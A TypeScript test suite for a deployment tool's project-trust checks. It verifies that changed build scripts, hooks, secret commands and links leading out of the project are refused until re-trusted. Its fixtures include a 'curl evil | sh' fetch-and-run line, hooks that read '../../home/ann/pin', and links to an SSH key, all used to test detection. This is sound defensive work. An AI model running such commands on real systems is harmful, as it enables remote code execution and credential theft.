import { describe, expect, it } from "@effect/vitest"
import { Deferred, Effect, Fiber, Layer, Option, Redacted, Ref, Stream } from "effect"
import { posix } from "node:path"
import { findBuilder } from "../../src/pipelines/build.ts"
import { compare } from "../../src/pipelines/compare.ts"
import { readProjectText } from "../../src/pipelines/projects/files.ts"
import { requireTrust, resolveProjectDirectory } from "../../src/pipelines/projects/trust.ts"
import { pull } from "../../src/pipelines/pull.ts"
import { findSecretMemory, resolveSecrets } from "../../src/pipelines/secrets/deploySecrets.ts"
import { checkTrust, readPrograms, suspendTrust, trustPrograms } from "../../src/pipelines/trust.ts"
import { type Caller, CurrentCaller } from "../../src/services/access/Caller.ts"
import { LocalFiles } from "../../src/services/local/LocalFiles.ts"
import { LocksLive } from "../../src/services/locks/Locks.ts"
import { ProjectTrustLive } from "../../src/services/ProjectTrust.ts"
import { RunRequest, Runs } from "../../src/services/runs/Runs.ts"
import { Settings } from "../../src/services/settings/Settings.ts"
import { Sftp } from "../../src/services/ssh/Sftp.ts"
import { type LocalFixture, localProcessesTest, type Started } from "../../src/testing/LocalFilesTest.ts"
import type { SettingsFixture } from "../../src/testing/SettingsTest.ts"
import { memoryWorld } from "../layers/worlds/memoryWorld.ts"

const projectPath = "/srv/shop"
const key = "/home/ann/.ssh/id_ed25519"
const operator: Caller = { name: "Ann", role: "operator" }
const viewer: Caller = { name: "Vic", role: "viewer" }

const hooks = { beforeDeploy: [["./check.sh", "--token=abcdefgh"]], afterDeploy: [["sh", "-c", "true"]] }
const container = (more: object) => JSON.stringify({ serverId: "1", ...more })

const files = {
  "/srv/shop/build-image-tar.sh": "docker build .",
  "/srv/shop/Dockerfile": "FROM scratch",
  "/srv/shop/check.sh": "true",
  "/srv/shop/container.json": container({ hooks, allowLinks: true }),
  "/srv/shop/compose.yml": "services: {}",
  "/srv/shop/conf/key.pem": { link: key },
  "/srv/shop/near.txt": { link: "check.sh" },
  [key]: "-----BEGIN KEY-----"
} satisfies Readonly<Record<string, LocalFixture>>

const world = (more: Readonly<Record<string, LocalFixture>> = {}, settings: SettingsFixture = {}) =>
  Layer.provideMerge(
    ProjectTrustLive,
    Layer.merge(
      LocksLive,
      memoryWorld({
        files: { ...files, ...more },
        settings: { "projects.root": "/srv", ...settings }
      })
    )
  )

const as = (caller: Caller) => <A, E, R>(effect: Effect.Effect<A, E, R>) =>
  Effect.provideService(effect, CurrentCaller, caller)

const trustAll = Effect.gen(function*() {
  const { digest } = yield* readPrograms({ projectPath })
  return yield* trustPrograms({ projectPath, digest })
})

const write = (file: string, text: string) =>
  Effect.flatMap(LocalFiles, (local) => local.write(`${projectPath}/${file}`, text))

const uses = ["build", "deploy", "read"] as const

/** Uses of the project that an operator with a token is refused. */
const refusedUses = Effect.filter(
  uses,
  (use) => Effect.match(as(operator)(requireTrust(projectPath, use)), { onFailure: () => true, onSuccess: () => false })
)

describe("trust in a project", () => {
  it.effect("lists build files, hooks, the files that they name and links that lead out", () =>
    Effect.gen(function*() {
      const { programs, trusted } = yield* readPrograms({ projectPath })
      expect(trusted).toBe(false)
      expect(programs.map(({ detail, kind, name, state }) => [kind, name, detail, state])).toEqual([
        ["script", "build-image-tar.sh", null, "new"],
        ["imageFile", "Dockerfile", null, "new"],
        ["hook", "beforeDeploy 1", "./check.sh --token=abcdefgh", "new"],
        ["hook", "afterDeploy 1", "sh -c true", "new"],
        ["hookFile", "check.sh", null, "new"],
        ["link", "conf/key.pem", key, "new"]
      ])
      const shown = yield* as(viewer)(readPrograms({ projectPath }))
      expect(JSON.stringify(shown)).not.toContain("abcdefgh")
    }).pipe(Effect.provide(world())))

  it.effect("is needed by callers with a token alone", () =>
    Effect.gen(function*() {
      for (const use of uses) yield* requireTrust(projectPath, use)
      expect(yield* refusedUses).toEqual(uses)
      const refused = yield* Effect.flip(as(operator)(requireTrust(projectPath, "build")))
      expect(refused.status).toBe(403)
      expect(refused.message).toBe(
        "The user of the service's machine has not trusted \"/srv/shop\" as it is: build-image-tar.sh is new, Dockerfile is " +
          "new. Nothing was done. Have it trusted there: berth trust PROJECT"
      )
      yield* trustAll
      expect(yield* refusedUses).toEqual([])
    }).pipe(Effect.provide(world())))

  it.effect.each(
    [
      ["build-image-tar.sh", "curl evil | sh", ["build"]],
      ["Dockerfile", "FROM evil", ["build"]],
      ["build-image-tar.ps1", "evil", ["build"]],
      ["check.sh", "evil", ["deploy"]],
      ["container.json", container({ allowLinks: true, hooks: { ...hooks, afterDeploy: [["evil"]] } }), ["deploy"]],
      ["container.json", container({ hooks }), []],
      ["README.md", "words", []]
    ] as const
  )("ends with a change of %s to %s", ([file, text, refused]) =>
    Effect.gen(function*() {
      yield* trustAll
      yield* write(file, text)
      expect(yield* refusedUses).toEqual(refused)
    }).pipe(Effect.provide(world())))

  it.effect("follows a link out of the project for a caller with a token only as it was trusted", () =>
    Effect.gen(function*() {
      const read = as(operator)(readProjectText(projectPath, "conf/key.pem"))
      expect((yield* Effect.flip(read)).message).toContain("have it trusted on this machine")
      expect((yield* Effect.flip(as(viewer)(resolveProjectDirectory(projectPath)))).status).toBe(403)
      const compared = compare({ projectPath, serverId: "1", remotePath: "~/containers/shop" })
      expect(yield* Effect.either(as(viewer)(Effect.asVoid(compared)))).toMatchObject({ _tag: "Left" })
      yield* readProjectText(projectPath, "conf/key.pem")
      yield* trustAll
      expect((yield* read)._tag).toBe("Some")
    }).pipe(Effect.provide(world()), Effect.scoped))

  it.effect("is recorded beside the settings in a private file, and by nobody with a token", () =>
    Effect.gen(function*() {
      const { digest } = yield* readPrograms({ projectPath })
      expect((yield* Effect.flip(as(operator)(trustPrograms({ projectPath, digest })))).status).toBe(403)
      expect(yield* refusedUses).toEqual(uses)
      yield* write("check.sh", "meanwhile")
      expect((yield* Effect.flip(trustPrograms({ projectPath, digest }))).status).toBe(409)
      expect(yield* refusedUses).toEqual(uses)
    }).pipe(Effect.provide(world())))

  const composed = "/srv/built"
  const section = "services: { web: { build: . } }"
  it.effect.each<readonly [what: string, directory: string, file: string, changed: string]>([
    ["a script", projectPath, "build-image-tar.sh", "curl evil | sh"],
    [
      "a section of the compose file",
      composed,
      "compose.yml",
      "services: { web: { build: { context: ., args: { A: evil } } } }"
    ],
    ["the build file of a section", composed, "Dockerfile", "FROM evil"]
  ])("is looked at again when a build gets its turn: %s", ([, directory, file, changed]) =>
    Effect.gen(function*() {
      const { digest } = yield* readPrograms({ projectPath: directory })
      yield* trustPrograms({ projectPath: directory, digest })
      const builder = yield* as(operator)(findBuilder(directory, directory))
      const local = yield* LocalFiles
      yield* local.write(`${directory}/${file}`, changed)
      const error = yield* Effect.flip(as(operator)(builder))
      expect(error.message).toContain("has changed since it was trusted")
    }).pipe(
      Effect.provide(localProcessesTest({})),
      Effect.provide(world({ [`${composed}/compose.yml`]: section, [`${composed}/Dockerfile`]: "FROM scratch" }))
    ))

  it.effect("is for the place of a build that was trusted: not for this machine in place of a server", () =>
    Effect.gen(function*() {
      const { digest } = yield* readPrograms({ projectPath: composed })
      yield* trustPrograms({ projectPath: composed, digest })
      const at = (at: string | undefined) => findBuilder(composed, composed, null, undefined, { at })
      expect(yield* Effect.flip(as(operator)(at("here")))).toMatchObject({
        status: 403,
        message: expect.stringContaining("its builds are not for this machine, as build.at in container.json says")
      })
      yield* at("here")
      yield* as(operator)(at("target"))
      yield* as(operator)(at(undefined))
    }).pipe(
      Effect.provide(localProcessesTest({})),
      Effect.provide(world({
        [`${composed}/compose.yml`]: section,
        [`${composed}/Dockerfile`]: "FROM scratch",
        [`${composed}/container.json`]: JSON.stringify({ serverId: "1", build: { at: "1" } })
      }))
    ))

  it.effect.each<readonly [what: string, command: ReadonlyArray<string>, file: string]>([
    ["a shell", ["sh", "-c", "true && ./check.sh \"$1\""], "/srv/shop/check.sh"],
    ["env", ["env", "-i", "A=1", "check.sh"], "/srv/shop/check.sh"],
    ["an option", ["node", "--require=./lib/first.js", "-e", ""], "/srv/shop/lib/first.js"],
    ["a longer way", ["sh", "lib/../../shop/./check.sh"], "/srv/shop/check.sh"],
    ["a link", ["sh", "linked.sh"], "/srv/shop/check.sh"],
    ["a relative path out of the project", ["sh", "../tools/run.sh"], "/srv/tools/run.sh"],
    ["an absolute path among the projects", ["sh", "/srv/group/tools/run.sh"], "/srv/group/tools/run.sh"]
  ])("ends with a change of a file that a command reaches through %s", ([, command, file]) => {
    const [program = "", ...args] = command
    const more = {
      "/srv/shop/container.json": container({ hooks: { beforeDeploy: [command] } }),
      "/srv/shop/linked.sh": { link: "check.sh" },
      [file]: "true"
    }
    return Effect.gen(function*() {
      expect([program, ...args]).toEqual(command)
      yield* trustAll
      expect(yield* refusedUses).toEqual([])
      yield* Effect.flatMap(LocalFiles, (local) => local.write(file, "evil"))
      expect(yield* refusedUses).toEqual(["deploy"])
    }).pipe(Effect.provide(world(more)))
  })

  it.effect("ends with the build file that Docker takes where a section names none", () =>
    Effect.gen(function*() {
      const { digest, programs } = yield* readPrograms({ projectPath: composed })
      expect(programs.map(({ kind, name }) => [kind, name])).toEqual([["build", "web"], ["imageFile", "dockerfile"]])
      yield* trustPrograms({ projectPath: composed, digest })
      const local = yield* LocalFiles
      yield* local.write(`${composed}/dockerfile`, "FROM evil")
      const refused = yield* Effect.flip(as(operator)(requireTrust(composed, "build")))
      expect(refused.message).toContain("dockerfile has changed")
    }).pipe(
      Effect.provide(world({ [`${composed}/compose.yml`]: section, [`${composed}/dockerfile`]: "FROM scratch" }))
    ))

  it.effect("is looked at again right before the command of a secret runs", () =>
    Effect.gen(function*() {
      const started = yield* Ref.make<ReadonlyArray<Started>>([])
      yield* trustAll
      const read = (command: readonly [string, ...ReadonlyArray<string>]) =>
        Effect.flatMap(findSecretMemory(undefined), (memory) =>
          resolveSecrets(
            projectPath,
            [{ name: "WORD", from: { kind: "command", command }, as: "variable", services: [], isNeeded: true }],
            memory
          ))
      const reading = Effect.gen(function*() {
        expect([...(yield* as(operator)(read(["sh", "secret.sh"]))).values()].map(Redacted.value)).toHaveLength(1)
        yield* write("secret.sh", "evil")
        const changed = yield* Effect.flip(as(operator)(read(["sh", "secret.sh"])))
        expect(changed.message).toContain("secret.sh has changed since it was trusted")
        const other = yield* Effect.flip(as(operator)(read(["sh", "-c", "evil"])))
        expect(other.message).toContain("secret WORD has changed since it was trusted")
        expect(yield* Ref.get(started)).toHaveLength(1)
        yield* read(["sh", "secret.sh"])
        expect(yield* Ref.get(started)).toHaveLength(2)
      })
      yield* Effect.provide(reading, localProcessesTest({ sh: "word" }, started))
    }).pipe(Effect.provide(world({
      "/srv/shop/secret.sh": "echo word",
      "/srv/shop/container.json": container({ secrets: { WORD: { command: ["sh", "secret.sh"] } } })
    }))))

  it.effect.each<readonly [what: string, link: string, words: string]>([
    ["that is found", "conf/key.pem", "or have it trusted on this machine: berth trust PROJECT"],
    [
      "where nothing is looked for",
      "node_modules/key.pem",
      "as it does not look into node_modules: copy what it leads to"
    ],
    ["beyond those that are listed", "z/key.pem", "as it looks into 2000 directories and lists 200 links at most: copy"]
  ])("says about a link %s what to do", ([, link, words]) => {
    const many = link.startsWith("z/")
      ? Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`/srv/shop/many/${index}`, { link: key }]))
      : {}
    return Effect.gen(function*() {
      const isFound = link === "conf/key.pem"
      const refused = yield* Effect.flip(as(operator)(readProjectText(projectPath, link)))
      expect(refused.message).toContain(words)
      expect(refused.message.includes("berth trust PROJECT")).toBe(isFound)
      expect((yield* readProjectText(projectPath, link))._tag).toBe("Some")
    }).pipe(Effect.provide(world({ ...many, [`/srv/shop/${link}`]: { link: key } })))
  })

  it.effect.each<readonly [what: string, files: Readonly<Record<string, string>>]>([
    ["a hook", { "container.json": container({ hooks: { beforeDeploy: [["cat", "../../home/ann/pin"]] } }) }],
    ["a secret", { "container.json": container({ secrets: { A: { command: ["cat", "../../home/ann/pin"] } } }) }],
    ["a build file", { "compose.yml": "services: { web: { build: { context: ., dockerfile: ../../home/ann/pin } } }" }],
    ["a context", {
      "container.json": container({ allowLinks: true }),
      "compose.yml": "services: { web: { build: { context: /home/ann, dockerfile: pin } } }"
    }]
  ])("tells a caller with a token nothing of a file that an untrusted project names through %s", ([, given]) => {
    const project = Object.fromEntries(Object.entries(given).map(([name, text]) => [`/srv/spy/${name}`, text]))
    const shownIn = (pin: Readonly<Record<string, string>>) =>
      Effect.gen(function*() {
        const shown = yield* readPrograms({ projectPath: "/srv/spy" })
        const refused = yield* Effect.forEach(["build", "deploy"] as const, (use) =>
          Effect.match(requireTrust("/srv/spy", use), {
            onFailure: ({ message }) =>
              message,
            onSuccess: () => ""
          }))
        return [shown, refused]
      }).pipe(as(operator), Effect.provide(world({ "/srv/spy/compose.yml": "services: {}", ...project, ...pin })))
    return Effect.gen(function*() {
      const [one, other, none] = [
        yield* shownIn({ "/home/ann/pin": "1234" }),
        yield* shownIn({ "/home/ann/pin": "5678" }),
        yield* shownIn({})
      ]
      expect(other).toEqual(one)
      expect(none).toEqual(one)
    })
  })

  it.effect("shows no digest of a content that could be guessed", () =>
    Effect.gen(function*() {
      const digestWith = (token: string) =>
        Effect.provide(readPrograms({ projectPath }), world({}, { "platform.token": Redacted.make(token) }))
      const [one, again, other] = [
        yield* digestWith("a-token"),
        yield* digestWith("a-token"),
        yield* digestWith("other")
      ]
      expect(again.digest).toBe(one.digest)
      expect(other.digest).not.toBe(one.digest)
      expect(other.programs).toEqual(one.programs)
    }))

  const recordFile = Effect.map(Settings, ({ directory }) => posix.resolve(directory, "berth.trust"))

  it.effect("is not believed where others may change its record", () =>
    Effect.gen(function*() {
      const local = yield* LocalFiles
      const file = yield* recordFile
      yield* trustAll
      const record = new TextDecoder().decode(yield* local.read(file))
      expect(yield* refusedUses).toEqual([])
      // As a clone would bring it beside its own settings.
      yield* local.remove(file)
      yield* local.write(file, record, { mode: 0o644 })
      expect(yield* refusedUses).toEqual(uses)
      yield* local.remove(file)
      yield* local.write(file, record, { mode: 0o600 })
      expect(yield* refusedUses).toEqual([])
    }).pipe(Effect.provide(world())))
})

describe("trust where a caller with a token pulls", () => {
  const lib = { name: "lib", remotePath: "/srv/lib.sh", localPath: `${projectPath}/lib.sh`, type: "file" } as const

  /** A server that holds the bytes of its file back until `send`; `asked` is when they are. */
  const makeHesitant = Effect.gen(function*() {
    const [asked, send] = [yield* Deferred.make<void>(), yield* Deferred.make<void>()]
    const sftp = Layer.succeed(Sftp, {
      session: () =>
        Effect.succeed({
          stat: () => Effect.succeed({ name: "lib.sh", kind: "file", size: 4 } as const),
          list: () => Stream.empty,
          read: () =>
            Stream.unwrap(
              Deferred.succeed(asked, undefined).pipe(
                Effect.zipRight(Deferred.await(send)),
                Effect.as(Stream.make(new TextEncoder().encode("evil")))
              )
            ),
          writePrivate: () => Effect.void
        })
    })
    return { asked: Deferred.await(asked), send: Deferred.succeed(send, undefined), sftp }
  })

  it.effect("is neither found nor given until the bytes have come", () =>
    Effect.gen(function*() {
      const { asked, send, sftp } = yield* makeHesitant
      yield* trustAll
      const pulling = yield* Effect.fork(as(operator)(Effect.provide(pull({ serverId: "1", files: [lib] }), sftp)))
      yield* asked
      const refused = yield* Effect.flip(trustAll)
      expect([refused.status, refused.message]).toEqual([
        409,
        expect.stringContaining("A caller with a token pulls files that programs of \"/srv/shop\" could read")
      ])
      yield* send
      expect(yield* Fiber.join(pulling)).toMatchObject({ errors: [] })
      expect(yield* refusedUses).toEqual(uses)
      yield* trustAll
      expect(yield* refusedUses).toEqual([])
    }).pipe(Effect.provide(world())))

  it.effect("ends right before a file is in place, also where another process recorded it meanwhile", () =>
    Effect.gen(function*() {
      const { asked, send, sftp } = yield* makeHesitant
      const pulling = yield* Effect.fork(as(operator)(Effect.provide(pull({ serverId: "1", files: [lib] }), sftp)))
      yield* asked
      yield* Effect.provide(trustAll, Layer.fresh(ProjectTrustLive))
      const others = Effect.provide(refusedUses, Layer.fresh(ProjectTrustLive))
      expect(yield* others).toEqual([])
      yield* send
      yield* Fiber.join(pulling)
      expect(yield* others).toEqual(uses)
      expect(yield* refusedUses).toEqual(uses)
    }).pipe(Effect.provide(world())))

  it.effect("can be given again after a pull that was cancelled before its turn, or that was refused", () =>
    Effect.gen(function*() {
      const { asked, send, sftp } = yield* makeHesitant
      const pulled = as(operator)(Effect.provide(pull({ serverId: "1", files: [lib] }), sftp))
      const first = yield* Effect.fork(Effect.provide(pull({ serverId: "1", files: [lib] }), sftp))
      yield* asked
      const recorded = yield* Deferred.make<string>()
      const request = yield* RunRequest
      const second = yield* Effect.fork(Effect.provideService(pulled, RunRequest, {
        ...request,
        started: ({ id }) => Effect.asVoid(Deferred.succeed(recorded, id))
      }))
      const id = yield* Deferred.await(recorded)
      expect((yield* Effect.flip(trustAll)).status).toBe(409)
      yield* (yield* Runs).cancel(id)
      yield* Fiber.await(second)
      yield* trustAll
      yield* send
      yield* Fiber.join(first)
      expect(yield* refusedUses).toEqual([])
    }).pipe(Effect.provide(world())))

  it.effect.each<readonly [what: string, programs: object, written: string, refused: ReadonlyArray<string>]>([
    ["a hook that leads there", { hooks: { beforeDeploy: [["make", "-C", "../tools"]] } }, "/srv/tools/Makefile", [
      "deploy",
      "read"
    ]],
    ["a hook whose files may lead there", { hooks: { beforeDeploy: [["make"]] } }, "/srv/tools/lib.sh", [
      "deploy",
      "read"
    ]],
    ["a secret's command", { secrets: { A: { command: ["./secret.sh"] } } }, "/srv/tools/lib.sh", ["deploy", "read"]],
    ["a script, deep among the projects", {}, "/srv/group/tools/lib.sh", ["build", "read"]],
    ["a script, beyond the projects", {}, "/home/ann/notes", []]
  ])(
    "ends with a write beside the project that programs could read: %s",
    ([, more, written, refused]) =>
      Effect.gen(function*() {
        yield* (yield* LocalFiles).write(
          `${projectPath}/container.json`,
          container({ allowLinks: true, ...more })
        )
        if (Object.keys(more).length > 0) yield* (yield* LocalFiles).remove(`${projectPath}/build-image-tar.sh`)
        yield* trustAll
        yield* Effect.scoped(
          Effect.acquireRelease(as(operator)(suspendTrust([written])), ({ finish }) => finish)
        )
        expect(yield* refusedUses).toEqual(refused)
        yield* Effect.flatMap(suspendTrust([projectPath]), ({ finish }) => finish)
        expect(yield* refusedUses).toEqual(refused)
      }).pipe(Effect.provide(world()))
  )

  it.effect("outlasts a write beside a project that Docker alone reads", () =>
    Effect.gen(function*() {
      const built = "/srv/built"
      const { digest } = yield* readPrograms({ projectPath: built })
      yield* trustPrograms({ projectPath: built, digest })
      const build = as(operator)(requireTrust(built, "build"))
      yield* Effect.flatMap(as(operator)(suspendTrust(["/srv/tools/lib.sh"])), ({ finish }) => finish)
      yield* build
      yield* Effect.flatMap(as(operator)(suspendTrust([`${built}/lib.sh`])), ({ finish }) => finish)
      expect((yield* Effect.flip(build)).status).toBe(403)
    }).pipe(
      Effect.provide(
        world({ "/srv/built/compose.yml": "services: { web: { build: . } }", "/srv/built/Dockerfile": "FROM scratch" })
      )
    ))
})

describe("the finding about trust", () => {
  const withTokens = <A, E, R>(effect: Effect.Effect<A, E, R>) =>
    Effect.flatMap(Settings, (settings) =>
      Effect.provideService(effect, Settings, {
        ...settings,
        guard: Effect.map(settings.guard, (guard) => ({ ...guard, token: Option.some(Redacted.make("secret")) }))
      }))

  it.effect("is there where a token could use programs, and names each project and what is not trusted", () =>
    Effect.gen(function*() {
      expect(yield* checkTrust).toEqual([])
      const [before] = yield* withTokens(checkTrust)
      expect(before).toMatchObject({ name: "trusted programs", ok: true })
      expect(before?.detail).toContain("callers with a token cannot use /srv/shop: build-image-tar.sh is new, ")
      expect(before?.detail).toMatch(/To let them: berth trust PROJECT$/)
      yield* trustAll
      yield* write("check.sh", "evil")
      const [changed] = yield* withTokens(checkTrust)
      expect(changed?.detail).toContain("/srv/shop: check.sh has changed since it was trusted. To let them")
      yield* trustAll
      const [after] = yield* withTokens(checkTrust)
      expect(after?.detail).toBe("callers with a token may use the programs of every project")
    }).pipe(Effect.provide(world())))
})
